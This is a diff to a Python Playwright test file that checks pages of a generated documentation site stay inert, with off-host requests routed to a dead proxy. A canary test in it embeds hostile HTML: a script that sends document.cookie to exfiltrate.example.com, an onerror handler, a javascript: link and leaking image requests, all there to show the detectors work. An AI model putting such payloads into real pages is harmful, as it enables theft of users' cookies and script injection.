@@ -47,6 +47,12 @@ CHROMIUM_ARGS = [
     "--disable-background-networking",
     "--disable-component-update",
     "--disable-sync",
+    # Every request to another host goes to a proxy that is not there, so it fails inside the browser
+    # (host names and IP literals alike; Chromium never proxies the loopback address). The requests
+    # are still seen and recorded (:func:`watched`); nothing needs intercepting, so the browser's
+    # cache keeps working (Playwright's request routing turns it off: Plotly's 3.5 MB script was
+    # fetched and compiled again on every page).
+    "--proxy-server=http://127.0.0.1:9",
 ]
 #: Schemes that are not network requests (Plotly draws heatmaps as data: images).
 NOT_NETWORK = ("data:", "blob:", "about:")
@@ -69,7 +75,7 @@ def find_chromium() -> tuple[str | None, str]:
 
 
 try:
-    from playwright.sync_api import Browser, Page, Route, sync_playwright
+    from playwright.sync_api import Browser, Page, sync_playwright
 except ImportError:  # pragma: no cover - depends on the environment
     pytest.skip(
         "browser tests need the `playwright` package: pip install -e '.[test]' (or pip install playwright)",
@@ -220,7 +226,6 @@ def browser() -> Iterator[Browser]:
 class Watched:
     page: Page
     requests: list[str] = field(default_factory=list)
-    blocked: list[str] = field(default_factory=list)
     console_errors: list[str] = field(default_factory=list)
     page_errors: list[str] = field(default_factory=list)
     dialogs: list[str] = field(default_factory=list)
@@ -234,10 +239,8 @@ class Watched:
             problems.append("console errors:\n  " + "\n  ".join(self.console_errors))
         if self.page_errors:
             problems.append("uncaught page errors:\n  " + "\n  ".join(self.page_errors))
-        if self.off_host() or self.blocked:
-            problems.append(
-                "requests off 127.0.0.1:\n  " + "\n  ".join(sorted(set(self.off_host()) | set(self.blocked)))
-            )
+        if self.off_host():
+            problems.append("requests off 127.0.0.1:\n  " + "\n  ".join(sorted(set(self.off_host()))))
         assert not problems, f"{what}:\n" + "\n".join(problems)
 
 
@@ -248,16 +251,8 @@ def watched(browser: Browser) -> Iterator[Watched]:
     page.set_default_timeout(15_000)
     seen = Watched(page)
 
-    def only_local(route: Route) -> None:
-        url = route.request.url
-        if url.startswith(NOT_NETWORK) or urlsplit(url).hostname == LOCAL_HOST:
-            route.continue_()
-        else:
-            seen.blocked.append(url)
-            route.abort()
-
-    context.route("**/*", only_local)
-    page.on("request", lambda request: seen.requests.append(request.url))
+    # every page of the context (a pop-up too); requests off the host fail at the dead proxy (CHROMIUM_ARGS)
+    context.on("request", lambda request: seen.requests.append(request.url))
     page.on(
         "console",
         lambda message: (
@@ -542,7 +537,44 @@ def _check_inert(watched: Watched, what: str) -> None:
         f"{what}: javascript: URLs in the DOM: {found['javascriptUrls']}"
     )
     assert not found["scripts"], f"{what}: a <script> from workspace text is in the DOM"
-    assert not watched.off_host() and not watched.blocked, f"{what}: requests off 127.0.0.1: {watched.off_host()}"
+    assert not watched.off_host(), f"{what}: requests off 127.0.0.1: {watched.off_host()}"
+
+
+_CANARY = """<!doctype html><html><head><title>canary</title></head><body>
+<img src="http://example.invalid/leak.png"><img src="http://10.1.2.3/leak.png">
+<img src="missing.png" onerror="window.__pwned = 'onerror'">
+<a id="js" href="javascript:alert('link')">click-js</a>
+<script>fetch('https://exfiltrate.example.com/?c=' + document.cookie).catch(() => {});</script>
+</body></html>"""
+
+
+def test_the_watch_sees_what_a_hostile_page_does(tmp_path: Path, watched: Watched) -> None:
+    """The checks above can fail: a page that requests other hosts (by name and by IP address, as an
+    image and from a script), runs an ``onerror`` handler and holds a ``javascript:`` link is caught by
+    every one of them, and none of its requests leaves the machine."""
+    (tmp_path / "canary.html").write_text(_CANARY)
+    for served in _serve(tmp_path):
+        watched.page.goto(served.at("canary.html"), wait_until="networkidle")
+        with pytest.raises(AssertionError, match="hostile text executed"):
+            _check_inert(watched, "canary")
+        found = watched.page.evaluate(_DANGEROUS_DOM)
+        assert found["onAttributes"] and found["javascriptUrls"] and found["javascriptLinks"] == 1
+        assert set(watched.off_host()) >= {
+            "http://example.invalid/leak.png",
+            "http://10.1.2.3/leak.png",
+            "https://exfiltrate.example.com/?c=",
+        }
+        with pytest.raises(AssertionError, match=re.escape("requests off 127.0.0.1")):
+            watched.assert_clean("canary")
+        # the requests failed in the browser: the proxy they were sent to does not exist
+        status = watched.page.evaluate(
+            "() => fetch('http://10.1.2.3/', {signal: AbortSignal.timeout(5000)})"
+            ".then(r => r.status, e => 'failed: ' + e.name)"
+        )
+        assert status == "failed: TypeError", status  # refused at once, not timed out
+        watched.page.click("#js")
+        watched.page.wait_for_timeout(200)
+        assert watched.dialogs == ["alert: link"]
 
 
 @pytest.mark.parametrize("path", ["index.html", "models/loans/index.html", "models/loans/1.0/index.html"])
@@ -603,7 +635,7 @@ def redteam_site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
 
 _USER_LINKS = """() => Array.from(document.querySelectorAll('.md-content a'))
     .filter(a => /click-/.test(a.textContent || ''))
-    .map(a => ({text: (a.textContent || '').trim(), href: a.getAttribute('href') || ''}))"""
+    .map(a => ({text: (a.textContent || '').trim(), href: a.getAttribute('href') || '', html: a.outerHTML}))"""
 
 
 @pytest.mark.redteam
@@ -624,14 +656,18 @@ def test_redteam_every_page_and_every_user_link_stays_inert(redteam_site: Served
         assert response is not None and response.status == 200, path
         _check_inert(watched, path)
         links = page.evaluate(_USER_LINKS)
+        tried: set[str] = set()
         for index, link in enumerate(links):
             assert not re.match(r"\s*(javascript|data|vbscript):", link["href"], re.I), f"{path}: {link}"
-            if index:  # the page as just opened for each click (the first: as opened and checked above)
+            if link["html"] in tried:  # the same element again (a heading's "#top"): a click does the same
+                continue
+            tried.add(link["html"])
+            # each link is clicked on the page as opened: opened again when the last click left it
+            if urldefrag(page.url).url != redteam_site.at(path):
                 page.goto(redteam_site.at(path), wait_until="load")
             page.locator(".md-content a", has_text=link["text"]).nth(
                 sum(1 for earlier in links[:index] if earlier["text"] == link["text"])
             ).click()
-            page.wait_for_timeout(200)
             clicked += 1
             _check_inert(watched, f"{path} after clicking {link['text']!r}")
             assert urlsplit(page.url).hostname == LOCAL_HOST, f"{path}: {link} navigated to {page.url}"
